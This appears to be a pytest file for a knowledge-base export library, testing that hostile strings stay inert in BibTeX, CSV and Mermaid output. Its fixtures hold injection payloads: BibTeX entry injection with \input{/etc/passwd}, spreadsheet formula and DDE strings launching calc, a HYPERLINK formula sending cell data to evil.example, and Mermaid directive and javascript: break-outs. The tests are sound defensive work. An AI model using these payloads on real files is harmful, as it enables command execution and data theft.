"""Hostile KB strings stay data in BibTeX (braces balance as BibTeX counts them, no field or entry is injected,
URLs are raw but safe in ``\\url{}``), in CSV (no spreadsheet formula) and in Mermaid (no directive, comment or
label break-out); the standalone LaTeX export that cites them still compiles (skipped without pdflatex/bibtex)."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess

import pytest
import yaml

from interplay.export import build_export_model, render_text
from interplay.export import escape as esc
from interplay.export.graph_formats import csv_tables
from interplay.kb import load_kb

TITLE = "T}, author = {Mallory}, @misc{x, title = {pwn} \\input{/etc/passwd} 100% #1\nline2 {"
AUTHOR = "Mal}ory @evil{ \\relax"
VENUE = "J. }} @article{y, note = {z"
NOTE = "n}\n@misc{inj, title={x}}\r%"
URL = "https://ex.org/a b\\c{d}^e@f%zz%41'x#frag}{"
LABEL = '%%{init: {"theme": "forest"}}%% "] --> n0["pwned | x; [y] (z) {w}\n%% comment\nclick n0 href "javascript:1"'
FORMULAS = {
    "note": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "locator": "+cmd|' /C calc'!A0",
    "ev_note": "-2+3+cmd|' /C calc'!A0",
    "id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
HOSTILE = {
    "nodes": [{"id": "hostile-node", "name": LABEL, "kind": "mechanism", "description": FORMULAS["note"]}],
    "edges": [
        {"id": "hostile-in", "source": "adversarial-training", "target": "hostile-node", "sign": "increases",
         "role": "mechanism", "note": FORMULAS["note"],
         "evidence": [{"ref": "hostile2024", "kind": "empirical", "locator": FORMULAS["locator"],
                       "note": FORMULAS["ev_note"]},
                      {"ref": "hostiletype2024", "kind": "empirical", "locator": "-0.12", "note": FORMULAS["tab"]}]},
        {"id": FORMULAS["id"], "source": "hostile-node", "target": "evasion", "sign": "decreases",
         "role": "mechanism", "note": FORMULAS["cr"], "evidence": [{"ref": "hostile2024", "kind": "theoretical"}]},
    ],
    "references": [
        {"key": "hostile2024", "status": "external", "entry_type": "article", "title": TITLE,
         "authors": [AUTHOR, "others"], "year": 2024, "venue": VENUE, "url": URL, "note": NOTE},
        {"key": "hostiletype2024", "status": "external", "entry_type": "article{x, title = {y}",
         "title": "Plain", "authors": ["A. Author"], "year": 2023},
    ],
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile-overlay")
    (d / "hostile.yaml").write_text(yaml.safe_dump(HOSTILE, allow_unicode=True), encoding="utf-8")
    return build_export_model(load_kb(None, [d]))


# ---------------------------------------------------------------- BibTeX, read as BibTeX reads it


def bibtex_entries(text: str) -> list[tuple[str, str, str]]:
    """(type, key, body) per entry, splitting as BibTeX does: every brace counts, a backslash escapes nothing."""
    entries, i = [], 0
    while (at := text.find("@", i)) >= 0:
        m = re.compile(r"@(\w+)\{([^,\s{}]+),").match(text, at)
        assert m, f"not an entry head: {text[at : at + 60]!r}"
        depth, j = 1, m.end()
        while depth:
            assert j < len(text), f"{m.group(2)}: braces never close"
            depth += {"{": 1, "}": -1}.get(text[j], 0)
            j += 1
        entries.append((m.group(1), m.group(2), text[m.end() : j - 1]))
        i = j
    return entries


def bibtex_fields(body: str) -> dict[str, str]:
    """Field name -> value (without its delimiting braces); commas split fields only at brace depth 0."""
    parts, depth, start = [], 0, 0
    for k, ch in enumerate(body):
        depth += {"{": 1, "}": -1}.get(ch, 0)
        assert depth >= 0, f"a brace closes the field early: {body[max(0, k - 40) : k + 1]!r}"
        if ch == "," and depth == 0:
            parts.append(body[start:k])
            start = k + 1
    fields: dict[str, str] = {}
    for part in [*parts, body[start:]]:
        if part.strip():
            name, _, value = part.partition("=")
            value = value.strip()
            assert name.strip().lower() not in fields and value[0] == "{" and value[-1] == "}", part
            fields[name.strip().lower()] = value[1:-1]
    return fields


def test_bibtex_hostile_strings_cannot_close_fields_or_inject_entries(hostile_model):
    bib = render_text(hostile_model, "bib")
    entries = bibtex_entries(bib)
    assert [k for _, k, _ in entries] == sorted(hostile_model.references), "no injected entry"
    assert bib.count("@") == len(entries), "an @ only starts an entry"
    parsed = {k: (t, bibtex_fields(body)) for t, k, body in entries}
    etype, f = parsed["hostile2024"]
    assert etype == "article" and set(f) == {"author", "title", "journal", "year", "url", "note"}, "no injected field"
    assert f["title"] == (
        r"{T\textbraceright{}, author = \{Mallory\}, {\char64}misc\textbraceleft{}x, title = \{pwn\} "
        r"\textbackslash{}input\{/etc/passwd\} 100\% \#1 line2 \textbraceleft{}}"
    ), "paired braces stay literal braces, unpaired ones become brace-free commands"
    assert f["author"] == r"Mal\textbraceright{}ory {\char64}evil\textbraceleft{} \textbackslash{}relax and others"
    assert (
        f["journal"]
        == r"J. \textbraceright{}\textbraceright{} {\char64}article\textbraceleft{}y, note = \textbraceleft{}z"
    )
    assert f["note"] == r"n\textbraceright{} {\char64}misc\{inj, title=\{x\}\} \%"
    assert f["url"] == "https://ex.org/a%20b%5Cc%7Bd%7D%5Ee%40f%25zz%41'x", "raw, percent-encoded, no fragment"
    assert all("\n" not in v and "\r" not in v for v in f.values())
    assert parsed["hostiletype2024"][0] == "misc", "an entry type that is not a word cannot inject"
    assert set(parsed["hostiletype2024"][1]) == {"author", "title", "year"}


def test_bibtex_escape_and_url_helpers():
    for s in ("}", "{", "}{", "a}b{c", "{{}", "x}}}{{{", TITLE, NOTE, VENUE, AUTHOR):
        e = esc.bibtex(s)
        depth = 0
        for ch in e:
            depth += {"{": 1, "}": -1}.get(ch, 0)
            assert depth >= 0, (s, e)
        assert depth == 0 and "@" not in e and "\n" not in e, (s, e)
    assert esc.bibtex("a{b}c") == r"a\{b\}c"
    assert esc.url("https://x.org/p?q=1&r=a_b~c#top") == "https://x.org/p?q=1&r=a_b~c"
    assert esc.url("https://x.org/%E2%9C%93 100%") == "https://x.org/%E2%9C%93%20100%25"
    assert not re.search(r"[{}\\#@^\s]|%(?![0-9A-F]{2})", esc.url(URL))


HAS_TEX = shutil.which("pdflatex") is not None and shutil.which("bibtex") is not None


@pytest.mark.skipif(not HAS_TEX, reason="pdflatex and bibtex are not installed (TeX Live: see .ci/run)")
def test_standalone_latex_citing_hostile_references_compiles(hostile_model, tmp_path):
    (tmp_path / "h.tex").write_text(render_text(hostile_model, "latex", standalone=True), encoding="utf-8")

    def run(*cmd: str) -> subprocess.CompletedProcess:
        return subprocess.run(cmd, cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False)

    pdflatex = ("pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "h.tex")
    first = run(*pdflatex)
    assert first.returncode == 0, first.stdout[-2000:]
    bib = run("bibtex", "h")
    assert bib.returncode in (0, 1) and "error message" not in bib.stdout, bib.stdout
    for _ in range(2):
        again = run(*pdflatex)
        assert again.returncode == 0, again.stdout[-2000:]
    bbl = (tmp_path / "h.bbl").read_text(errors="replace")
    assert bbl.count(r"\bibitem") == len(hostile_model.references), "one item per entry, none injected"
    assert r"\bibitem{x}" not in bbl and r"\bibitem{inj}" not in bbl
    log = (tmp_path / "h.log").read_text(errors="replace")
    assert "There were undefined references" not in log and "/etc/passwd" not in log


# ---------------------------------------------------------------- CSV


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_cells_cannot_start_formulas(hostile_model):
    tables = csv_tables(hostile_model)
    edges = {r["id"]: r for r in csv.DictReader(io.StringIO(tables["edges"], newline=""))}
    assert len(edges) == len(hostile_model.edges), "a CR in a cell is quoted, not a new row"
    assert edges["hostile-in"]["note"] == "'" + FORMULAS["note"]
    assert "'" + FORMULAS["id"] in edges and edges["'" + FORMULAS["id"]]["note"] == "'" + FORMULAS["cr"]
    evidence = list(csv.DictReader(io.StringIO(tables["evidence"], newline="")))
    mine = {(r["ref"], r["locator"], r["note"]) for r in evidence if r["edge"] == "hostile-in"}
    assert mine == {("hostile2024", "'" + FORMULAS["locator"], "'" + FORMULAS["ev_note"]),
                    ("hostiletype2024", "-0.12", "'" + FORMULAS["tab"])}, "a plain number stays a number"  # fmt: skip
    for text in tables.values():
        for row in _cells(text):
            for cell in row:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    float(cell)  # only a plain number may start like a formula
    weights = {e.id: e.weight for e in hostile_model.edges}
    assert all(float(r["weight"]) == weights[r["id"].removeprefix("'")] for r in edges.values()), "full precision"


@pytest.mark.parametrize(
    "value, expected",
    [("=1+1", "'=1+1"), ("+1-1", "'+1-1"), ("-1+2", "'-1+2"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("-0.12", "-0.12"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("a=1", "a=1"), (-0.12, -0.12), ("", "")],
)  # fmt: skip
def test_spreadsheet_neutralises_formulas_not_numbers(value, expected):
    assert esc.spreadsheet(value) == expected


# ---------------------------------------------------------------- Mermaid


def test_mermaid_labels_cannot_start_directives_or_break_out(hostile_model):
    text = render_text(hostile_model, "mermaid")
    lines = text.splitlines()
    body = [ln for ln in lines if not ln.startswith("%%")]
    assert all(ln.startswith("%%") for ln in lines[:3]), "only the header is a comment"
    assert not any("%" in ln for ln in body), "no directive or comment outside the header"
    node_lines = [ln for ln in body if re.match(r"\s+n\d+\[", ln)]
    assert len(node_lines) == len(hostile_model.nodes), "no injected node or line"
    for ln in node_lines:
        assert re.fullmatch(r'    n\d+\["[^"\[\](){}|<>%]*"\]:::\w+', ln), ln
    edge_lines = [ln for ln in body if re.match(r"\s+n\d+ -", ln)]
    assert len(edge_lines) == len(hostile_model.edges)
    for ln in edge_lines:
        assert re.fullmatch(r'  n\d+ (-->|--x|--o)\|"[^"\[\](){}|<>%]*"\| n\d+', ln), ln
        assert "--" not in ln.split('"')[1], "no arrow inside a label"
    labels = [re.search(r'\["(.*)"\]', ln).group(1) for ln in node_lines if "#37;#37;#123;init" in ln]
    assert len(labels) == 1
    decoded = re.sub(r"#(\d+);", lambda m: chr(int(m.group(1))), labels[0])
    assert decoded == " ".join(LABEL.split()), "the label shows the KB string, entity-escaped"
